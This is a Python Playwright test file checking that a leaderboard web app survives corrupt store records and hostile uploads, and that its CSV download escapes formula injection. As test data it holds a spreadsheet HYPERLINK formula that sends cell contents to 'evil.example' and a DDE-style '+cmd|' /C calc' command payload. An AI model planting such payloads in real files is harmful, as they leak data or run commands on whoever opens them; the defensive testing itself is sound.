"""The running board under attack, in a real browser (Playwright driving Debian's Chromium).

A bad record is dropped into the store while the board is serving: the board keeps its rows and
names the file, Read one still lists every good model, and a Submit-page upload always gets a
status (scored, rejected with why, or duplicate), never an empty box. The CSV a visitor downloads
is escaped against formula injection. The scorer is the tag scorer (the pages, not the extractor,
are under test here).
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.test_leaderboard_browser import (
    CHROMIUM,
    CHROMIUM_ARGS,
    TIMEOUT_MS,
    free_port,
    open_page,
    playwright_api,
    upload,
)
from tests.test_leaderboard_support import fabricator, faithful, submission_bytes, tagged_scorer

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed")
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def served(default_build, tmp_path_factory):
    from leaderboard.app import LeaderboardService, serve
    from leaderboard.store import LocalStore
    from leaderboard.submit import load_datasets, make_meta, submit

    datasets = load_datasets([default_build])
    store = LocalStore(tmp_path_factory.mktemp("hostile-browser") / "results")
    data = datasets.get(datasets.latest)
    for name, writer in (("good-one", faithful), ("good-two", fabricator)):
        assert submit(submission_bytes(data, writer), make_meta(name, "r1"), store, datasets, scorer=tagged_scorer,
                      submitter="owner").status == "scored"
    port = free_port()
    app = serve(LeaderboardService(store, datasets, scorer=tagged_scorer), host="127.0.0.1", port=port, block=False)
    yield {"url": f"http://127.0.0.1:{port}/", "store": store, "datasets": datasets, "data": data}
    app.close()


@pytest.fixture(scope="module")
def browser(served):
    with playwright_api.sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture()
def page(browser, served):
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.goto(served["url"])
    page.wait_for_selector("#board table")
    yield page
    context.close()


def upload_from_board(page, served, tmp_path, content: bytes, name: str) -> str:
    """`upload` starts from the board page (it follows the nav link to Submit)."""
    page.goto(served["url"])
    page.wait_for_selector("#board table")
    return upload(page, served, tmp_path, content, name)


def read_one_models(page, served) -> list[str]:
    open_page(page, served, "Read one")
    page.locator("#read-model input").click()
    options = page.get_by_role("option")
    options.first.wait_for()
    return [options.nth(i).inner_text() for i in range(options.count())]


def test_a_bad_record_added_to_a_running_board_is_named_and_empties_nothing(page, served):
    root = served["store"].root
    (root / "requests" / "badbadbadbadbad0.json").write_text("[1, 2, 3]", encoding="utf-8")
    (root / "requests" / "badbadbadbadbad1.json").write_bytes(b'{"id": "badbadbadbadbad1", "meta": {"na')
    page.goto(served["url"])
    page.wait_for_selector("#board table")
    page.wait_for_function("() => (document.querySelector('#board')?.innerText ?? '').includes('requests/badbadbadbadbad1.json')")
    text = page.locator("#board").inner_text()
    assert "good-one" in text and "good-two" in text, "the good rows stay on the board"
    assert "Store integrity" in text and "requests/badbadbadbadbad0.json" in text
    models = read_one_models(page, served)
    assert any("good-one" in m for m in models) and any("good-two" in m for m in models), models


def test_every_upload_gets_a_status_even_with_a_bad_record_in_the_store(page, served, tmp_path):
    root = served["store"].root
    (root / "requests" / "badbadbadbadbad2.json").write_bytes(b"\xff\xfe not a record")
    data = served["data"]
    scored = upload_from_board(page, served, tmp_path, submission_bytes(data, lambda c: f"fresh {c.cell_id} [supported]"), "fresh-model")
    assert scored.startswith("scored:"), scored
    duplicate = upload_from_board(page, served, tmp_path, submission_bytes(data, lambda c: f"fresh {c.cell_id} [supported]"), "copy")
    assert duplicate.startswith("duplicate:") and "under the name 'fresh-model'" in duplicate
    rows = submission_bytes(data, fabricator).decode().split("\n")
    rows[2] = json.dumps({"cell_id": "[/red]", "commentary": "x\u2028y"})
    rejected = upload_from_board(page, served, tmp_path, "\n".join(rows).encode(), "broken")
    assert rejected.startswith("rejected:") and "line 3, field 'cell_id'" in rejected
    held = upload_from_board(page, served, tmp_path, submission_bytes(data, lambda c: f"other {c.cell_id}"), "good-one")
    assert held.startswith("rejected:") and "held by owner" in held
    bad_name = upload_from_board(page, served, tmp_path, submission_bytes(data, lambda c: f"x {c.cell_id}"), "evil\u202emodel")
    assert bad_name.startswith("rejected:") and "field 'name'" in bad_name


def test_the_csv_download_is_escaped_against_formula_injection(page, served, tmp_path):
    from leaderboard.store import LocalStore
    from leaderboard.submit import make_meta, submit

    outcome = submit(submission_bytes(served["data"], lambda c: f"formula {c.cell_id} [fabricated]"),
                     make_meta(FORMULA_NAME, "@SUM(1)"), LocalStore(served["store"].root), served["datasets"],
                     scorer=tagged_scorer, submitter="+cmd|' /C calc'!A0")
    assert outcome.status == "scored", outcome.reason
    page.goto(served["url"])
    page.wait_for_selector("#board table")
    page.wait_for_function("() => (document.querySelector('#board')?.innerText ?? '').includes('HYPERLINK')")
    page.locator("#columns").get_by_label("submitter").check()
    page.wait_for_function("() => (document.querySelector('#board')?.innerText ?? '').includes('calc')")
    href = page.locator("#download-csv").get_attribute("href")
    reply = page.request.get(served["url"] + href)
    assert reply.ok
    rows = list(csv.DictReader(io.StringIO(reply.text())))
    [row] = [r for r in rows if "HYPERLINK" in r["model"]]
    assert row["model"] == "'" + FORMULA_NAME
    assert row["revision"] == "'@SUM(1)" and row["submitter"] == "'+cmd|' /C calc'!A0"
    numbers = [r["read rate (perturbed)"] for r in rows if r["read rate (perturbed)"]]
    assert all(not n.startswith("'") for n in numbers), "numbers stay numbers"
